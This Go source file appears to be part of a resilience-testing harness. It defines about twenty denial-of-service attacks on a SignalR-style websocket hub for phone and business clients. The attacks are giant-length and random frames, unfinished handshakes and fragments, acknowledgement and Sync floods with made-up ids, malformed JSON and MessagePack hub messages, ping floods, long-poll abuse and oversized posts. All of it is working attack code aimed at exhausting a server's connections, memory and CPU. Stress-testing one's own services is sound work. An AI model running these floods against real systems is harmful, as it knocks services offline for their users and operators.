package attack

import (
	"context"
	"fmt"
	"math/rand/v2"
	"net/http"
	"strings"
	"time"

	"github.com/google/uuid"
)

func phoneAttacks() []Attack {
	return []Attack{
		{"bytes after the upgrade", Phone, afterUpgrade, true},
		{"bytes behind the upgrade request", Phone, behindUpgrade, true},
		{"frames of 2^63", Phone, giantFrames, true},
		{"random frames", Phone, randomFrames, true},
		{"unfinished handshakes", Phone, unfinishedHandshakes, true},
		{"unfinished messages", Phone, unfinishedMessages, true},
		{"fragments without end", Phone, fragments, true},
		{"connections of one token", Phone, oneToken, true},
		{"never a ping", Phone, neverPing, true},
		{"acknowledgement flood", Phone, ackFlood, true},
		{"acknowledgements of one id", Phone, ackOne, true},
		{"unread Sync results", Phone, unreadSync, true},
		{"Sync walks", Phone, syncWalks, true},
		{"hub messages", Phone, hubMessages, true},
		{"MessagePack", Phone, packMessages, true},
		{"invocation ids", Phone, invocationIDs, true},
		{"ping flood", Phone, pingFlood, true},
		{"negotiate with a token", Phone, negotiateToken, false},
		{"long polls", Phone, longPolls, false},
		{"unread event stream of a hub", Phone, hubEvents, false},
		{"large posts to a hub", Phone, largePosts, false},
		{"reconnects", Phone, reconnects, true},
	}
}

// afterUpgrade sends a frame without a mask and many bytes behind it.
func afterUpgrade(ctx context.Context, v *Victim) {
	garbage := "\x81\x05" + strings.Repeat("\xaa", 200_000)
	v.hold(ctx, min(v.Size, 20), func(_ context.Context, c *conn) {
		if c.upgrade(phoneHub, v.DeviceToken) {
			c.send(garbage)
			c.drain()
		}
	})
}

func behindUpgrade(ctx context.Context, v *Victim) {
	v.hold(ctx, min(v.Size, 20), func(_ context.Context, c *conn) {
		n := []int{1, 100, 4000, 4096, 5000, 70_000}[v.Answers.Dialed.Load()%6]
		c.send(v.upgradeRequest(phoneHub, v.DeviceToken) + "\x81\x05" + strings.Repeat("\xaa", n))
		c.answer()
		c.drain()
	})
}

func giantFrames(ctx context.Context, v *Victim) {
	sizes := []uint64{1 << 63, 1<<63 - 1, 1<<64 - 1, 1 << 62, 1 << 32, 1<<31 - 1}
	v.hold(ctx, min(v.Size, 20), func(_ context.Context, c *conn) {
		if !c.upgrade(phoneHub, v.DeviceToken) {
			return
		}
		n := v.Answers.Dialed.Load()
		if n%2 == 0 {
			c.send(frame(finalText, handshakeJSON))
		}
		c.send(string(frameHead(finalText, sizes[n%int64(len(sizes))])) + strings.Repeat("x", 50_000))
		c.drain()
	})
}

func randomFrames(ctx context.Context, v *Victim) {
	v.hold(ctx, min(v.Size, 20), func(_ context.Context, c *conn) {
		if !c.upgrade(phoneHub, v.DeviceToken) {
			return
		}
		garbage := make([]byte, 1+rand.IntN(20_000))
		for i := range garbage {
			garbage[i] = byte(rand.Uint32())
		}
		if rand.IntN(2) == 0 {
			c.send(frame(finalText, handshakeJSON))
		}
		if rand.IntN(2) == 0 { // a frame that is none of the usual, with a valid length
			garbage = append(frameHead(byte(rand.Uint32()), uint64(len(garbage))), garbage...)
		}
		c.send(string(garbage))
		c.drain()
	})
}

func unfinishedHandshakes(ctx context.Context, v *Victim) {
	v.hold(ctx, v.Size, func(_ context.Context, c *conn) {
		if c.upgrade(phoneHub, v.DeviceToken) {
			c.send(frame(finalText, handshakeJSON[:len(handshakeJSON)-1]))
			c.drain()
		}
	})
}

// unfinishedMessages holds connections with 32 KiB each of a message that does not end.
func unfinishedMessages(ctx context.Context, v *Victim) {
	part := string(frameHead(finalText, 64<<10)) + strings.Repeat("x", 31<<10)
	v.sockets(ctx, v.Size, phoneHub, v.DeviceToken, func(_ context.Context, c *conn) {
		c.send(part)
		c.drain()
	})
}

// fragments sends empty fragments, and fragments of one byte, of a message that does not end.
func fragments(ctx context.Context, v *Victim) {
	v.sockets(ctx, min(v.Size, 20), phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		go c.drain() // ends with the connection
		c.send(frame(0x01, "{"))
		for piece := frame(0x00, " ") + frame(0x00, ""); pause(ctx, 10*time.Millisecond); {
			if !c.send(strings.Repeat(piece, 50)) {
				return
			}
		}
	})
}

func oneToken(ctx context.Context, v *Victim) {
	v.sockets(ctx, v.Size, phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		go c.drain() // ends with the connection
		for pause(ctx, 10*time.Second) && c.send(frame(finalText, "{\"type\":6}\x1e")) {
		}
	})
}

func neverPing(ctx context.Context, v *Victim) {
	v.sockets(ctx, v.Size, phoneHub, v.DeviceToken, func(_ context.Context, c *conn) { c.drain() })
}

// invocation is the text of a call of a hub method.
func invocation(id int, target, arguments string) string {
	return fmt.Sprintf("{\"type\":1,\"invocationId\":\"%d\",\"target\":%q,\"arguments\":%s}\x1e", id, target, arguments)
}

// madeUpIDs is a JSON list of ids that no message has.
func madeUpIDs(n int) string {
	ids := make([]string, n)
	for i := range ids {
		ids[i] = `"` + uuid.Must(uuid.NewV7()).String() + `"`
	}
	return "[" + strings.Join(ids, ",") + "]"
}

// ackFlood acknowledges ids that do not exist, as fast as the server reads.
func ackFlood(ctx context.Context, v *Victim) {
	v.sockets(ctx, 4, phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		go c.drain() // ends with the connection
		for i := 0; ctx.Err() == nil; i++ {
			method := []string{"MarkAsRead", "AcknowledgeMessages"}[i%2]
			if !c.send(frame(finalText, invocation(i, method, "["+madeUpIDs(500)+"]"))) {
				return
			}
		}
	})
}

// ackOne repeats one id, in a list and on its own.
func ackOne(ctx context.Context, v *Victim) {
	id := `"` + uuid.Must(uuid.NewV7()).String() + `"`
	list := "[[" + strings.Repeat(id+",", 499) + id + "]]"
	asks := v.pace(500)
	v.sockets(ctx, 4, phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		go c.drain() // ends with the connection
		for i := 0; asks.wait(ctx); i++ {
			text := invocation(i, "MarkAsRead", list) + invocation(i, "AcknowledgeMessage", "["+id+"]") +
				invocation(i, "AcknowledgeUpTo", "[9223372036854775807]")
			if !c.send(frame(finalText, text)) {
				return
			}
		}
	})
}

// unreadSync asks for results and reads none.
func unreadSync(ctx context.Context, v *Victim) {
	text := strings.Repeat(frame(finalText, invocation(1, "Sync", "[0,100]")), 50)
	v.sockets(ctx, min(v.Size, 20), phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		for range 20 {
			if !c.send(text) {
				break
			}
		}
		c.linger(ctx)
	})
}

// syncWalks asks for the whole inbox again and again.
func syncWalks(ctx context.Context, v *Victim) {
	asks := v.pace(500)
	v.sockets(ctx, min(v.Size, 10), phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		go c.drain() // ends with the connection
		for i := 0; asks.wait(ctx); i++ {
			after := []string{"0", "-1", "9223372036854775807", "1"}[i%4]
			if !c.send(frame(finalText, invocation(i, "Sync", "["+after+",100]"))) {
				return
			}
		}
	})
}

// records are hub messages that no client sends.
var records = []string{
	`{}`, `[]`, `null`, `"`, `{"type":1}`, `{"type":1,"target":null,"arguments":null}`, `{"type":1,"target":"Sync","arguments":[]}`,
	`{"type":1,"invocationId":"1","target":"Sync","arguments":["x",{}]}`, `{"type":1,"invocationId":"1","target":"Sync","arguments":[1e308,-1]}`,
	`{"type":1,"invocationId":"1","target":"None","arguments":[]}`, `{"type":2,"invocationId":"1","item":1}`, `{"type":3,"invocationId":"1","result":1}`,
	`{"type":4,"invocationId":"1","target":"Sync","arguments":[0,1]}`, `{"type":5,"invocationId":"1"}`, `{"type":7,"error":"x"}`, `{"type":8,"sequenceId":-1}`,
	`{"type":9,"sequenceId":99999999999}`, `{"type":99}`, `{"type":1e400}`, `{"type":-1}`, `{"type":"1"}`, strings.Repeat("[", 20_000), strings.Repeat(`{"a":`, 5000),
	`{"type":1,"invocationId":"\ud800","target":"\u0000","arguments":["\udfff"]}`, `{"type":1,"streamIds":["1","1","2"],"target":"Sync","arguments":[0,1]}`,
	"\xff\xfe", `{"type":6}` + strings.Repeat(" ", 30_000), strings.Repeat("{\"type\":6}\x1e", 3000), strings.Repeat("\x1e", 20_000),
	`{"type":1,"invocationId":"1","target":"AcknowledgeMessage","arguments":["` + strings.Repeat("x", 30_000) + `"]}`,
	`{"type":1,"invocationId":"1","target":"AcknowledgeUpTo","arguments":[9223372036854775807]}`, `{"type":1,"invocationId":"1","target":"AcknowledgeUpTo","arguments":[1e99]}`,
}

func hubMessages(ctx context.Context, v *Victim) {
	v.hold(ctx, min(v.Size, 20), func(_ context.Context, c *conn) {
		n := v.Answers.Dialed.Load()
		hub, token := phoneHub, v.DeviceToken
		if n%5 == 0 && v.APIKey != "" {
			hub, token = businessHub, v.APIKey
		}
		if c.shake(hub, token, handshakeJSON) {
			c.send(frame(finalText, records[n%int64(len(records))]+"\x1e"))
			_ = c.SetReadDeadline(time.Now().Add(500 * time.Millisecond)) // a socket that is gone fails below
			c.drain()
		}
	})
}

// packs are MessagePack messages that no client sends, with their length before them.
var packs = []string{
	"\x00", "\x01\x90", "\x01\xc0", "\x05\xdf\xff\xff\xff\xff", "\x05\xdd\xff\xff\xff\xff", "\x06\xdb\xff\xff\xff\xffx", "\x06\xc6\xff\xff\xff\xffx",
	"\xff\xff\xff\xff\x7f", "\xff\xff\xff\xff\xff\xff\xff\xff\xff\x01", "\x80\x80\x80\x80\x80\x80", "\x0a\x96\x01\x80\xc0\xa4Sync\x92",
	"\x03\x91\xd3\x01", "\x02\x91\x06", "\x07\x92\x08\xcf\xff\xff\xff\xff", "\x14" + strings.Repeat("\x91", 20), "\x0c\x96\x01\x80\xa11\xa4Sync\x92\x00\xff",
}

func packMessages(ctx context.Context, v *Victim) {
	v.hold(ctx, min(v.Size, 20), func(_ context.Context, c *conn) {
		if c.shake(phoneHub, v.DeviceToken, handshakePack) {
			c.send(frame(finalBinary, packs[v.Answers.Dialed.Load()%int64(len(packs))]))
			_ = c.SetReadDeadline(time.Now().Add(500 * time.Millisecond)) // a socket that is gone fails below
			c.drain()
		}
	})
}

// invocationIDs begins calls with long ids, and reads none of their completions.
func invocationIDs(ctx context.Context, v *Victim) {
	id := strings.Repeat("i", 28<<10)
	text := frame(finalText, `{"type":1,"invocationId":"`+id+`","target":"Sync","arguments":[0,1]}`+"\x1e")
	v.sockets(ctx, min(v.Size, 20), phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		for range 50 {
			if !c.send(text) {
				break
			}
		}
		c.linger(ctx)
	})
}

func pingFlood(ctx context.Context, v *Victim) {
	text := strings.Repeat(frame(finalPing, strings.Repeat("p", 125))+frame(finalText, "{\"type\":6}\x1e"), 100)
	asks := v.pace(200)
	v.sockets(ctx, 4, phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		for asks.wait(ctx) && c.send(text) { // the pongs stay unread
		}
	})
}

func negotiateToken(ctx context.Context, v *Victim) {
	ask(ctx, v, 2000, func() string {
		return v.request("POST", phoneHub+"/negotiate?negotiateVersion=1", "", "Content-Length: 0", bearer(v.DeviceToken))
	})
}

// longPolls begins connections by long polling and asks for each of them several times at once.
func longPolls(ctx context.Context, v *Victim) {
	v.hold(ctx, min(v.Size, 100), func(ctx context.Context, c *conn) {
		id := c.negotiate(v.DeviceToken)
		if id == "" {
			pause(ctx, 100*time.Millisecond)
			return
		}
		poll := v.request("GET", phoneHub+"?id="+id, "", bearer(v.DeviceToken))
		c.send(poll)
		c.answer()
		c.send(v.request("POST", phoneHub+"?id="+id, handshakeJSON, bearer(v.DeviceToken)))
		c.answer()
		c.send(poll + poll + poll)
		c.answer()
		c.drain()
	})
}

// hubEvents opens event streams of the hub and reads nothing.
func hubEvents(ctx context.Context, v *Victim) {
	v.hold(ctx, min(v.Size, 100), func(ctx context.Context, c *conn) {
		if id := c.negotiate(v.DeviceToken); id != "" {
			c.send(v.request("GET", phoneHub+"?id="+id, "", "Accept: text/event-stream", bearer(v.DeviceToken)))
		}
		c.linger(ctx)
	})
}

// largePosts posts as much as a hub takes, and more, to connections of its own.
func largePosts(ctx context.Context, v *Victim) {
	piece := strings.Repeat("x", 64<<10)
	v.hold(ctx, min(v.Size, 30), func(ctx context.Context, c *conn) {
		id := c.negotiate(v.DeviceToken)
		if id == "" {
			pause(ctx, 100*time.Millisecond)
			return
		}
		if !c.send(v.head("POST", phoneHub+"?id="+id, 64<<20, bearer(v.DeviceToken))) {
			return
		}
		for range 64 {
			if !c.send(piece) {
				break
			}
		}
		c.answer()
		c.drain()
	})
}

// reconnects comes and goes.
func reconnects(ctx context.Context, v *Victim) {
	v.sockets(ctx, min(v.Size, 20), phoneHub, v.DeviceToken, func(ctx context.Context, c *conn) {
		_ = c.SetReadDeadline(time.Now().Add(50 * time.Millisecond)) // a socket that is gone fails below
		c.drain()
	})
}

// negotiate returns the connection token of a new connection; empty if there is none.
func (c *conn) negotiate(token string) string {
	if !c.send(c.v.request("POST", phoneHub+"/negotiate?negotiateVersion=1", "", "Content-Length: 0", bearer(token))) {
		return ""
	}
	resp, err := http.ReadResponse(c.r, nil)
	if err != nil {
		return ""
	}
	defer resp.Body.Close()
	c.v.Answers.add(resp.StatusCode)
	return connectionToken(resp.Body)
}
